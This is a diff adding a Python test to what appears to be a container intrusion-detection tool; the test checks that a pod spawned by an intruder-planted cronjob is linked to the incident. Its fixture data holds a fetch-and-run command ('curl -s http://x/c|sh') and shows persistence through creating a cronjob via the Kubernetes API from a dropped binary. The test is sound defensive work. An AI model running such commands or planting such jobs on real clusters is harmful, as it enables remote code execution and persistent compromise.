@@ -547,3 +547,25 @@ def test_a_pod_that_reaches_the_incidents_outside_address_later_joins_it():
     (i,) = find_in(**fr).incidents
     reached = {r.pod: r.how for r in i.reached}
     assert reached["report-7"] == ["shared_endpoint"] and "sched-0" in reached
+
+
+def test_the_pod_of_a_job_an_intruder_planted_through_the_api_is_not_routine_for_being_a_jobs():
+    procs = [proc("runtime", None, None, "/usr/bin/containerd-shim", t=-200 * S, seen="event"),
+             proc("appmain", None, "app-1", "/srv/app", t=-100 * S, seen="event"),
+             proc("sh", "appmain", "app-1", "/bin/sh", "-c /tmp/k create cronjob", 100 * S),
+             proc("k", "sh", "app-1", "/tmp/k", "-n b create cronjob rec", 100 * S + 5 * MS),
+             proc("jsh", "runtime", "rec-28640115-dx7q2", "/bin/sh", "-c curl -s http://x/c|sh", 400 * S, ns="b",
+                  node="n2", workload="rec"),
+             proc("jcurl", "jsh", "rec-28640115-dx7q2", "/usr/bin/curl", "-s http://x/c", 400 * S + 5 * MS,
+                  ns="b", node="n2", workload="rec", exit_ns=401 * S)]
+    labels = pl.List(pl.Struct({"key": pl.String, "value": pl.String}))
+    job = [{"key": "job-name", "value": "rec-28640115"}]
+    p = pl.DataFrame(procs, schema=P).with_columns(
+        pl.Series("pod_labels", [job if x["pod"] and x["pod"].startswith("rec-") else None for x in procs],
+                  dtype=labels))
+    flows = [flow("f1", 400 * S + 6 * MS, "jcurl", ("b", "rec-28640115-dx7q2"), None, 443, dst_ip="203.0.113.50")]
+    api = _api([{"exec_id": "k", "time_ns": 100 * S + 40 * MS, "event_id": "a1", "verb": "create",
+                 "resource": "cronjobs", "namespace": "b", "name": "rec", "code": 201, "src_namespace": "a"}])
+    (i,) = find_in(**{**frames(procs, flows), "procs": p}, api=api).incidents
+    (r,) = i.reached
+    assert r.pod == "rec-28640115-dx7q2" and set(r.exec_ids) == {"jsh", "jcurl"}
